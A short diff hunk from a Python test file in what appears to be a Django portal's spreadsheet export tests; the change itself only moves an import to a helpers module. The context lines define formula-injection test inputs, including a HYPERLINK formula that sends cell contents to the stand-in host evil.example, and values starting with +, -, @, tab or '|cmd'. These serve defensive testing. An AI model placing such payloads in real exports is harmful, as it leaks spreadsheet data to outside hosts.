@@ -12,7 +12,7 @@ from django.utils import translation
 from openpyxl import load_workbook
 
 from portal import exports
-from tests.reviews.test_views import matrix_setup
+from tests.reviews.helpers import matrix_setup
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"클릭")'
 TYPED = [HYPERLINK, "+82 54 123 4567", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "|cmd",
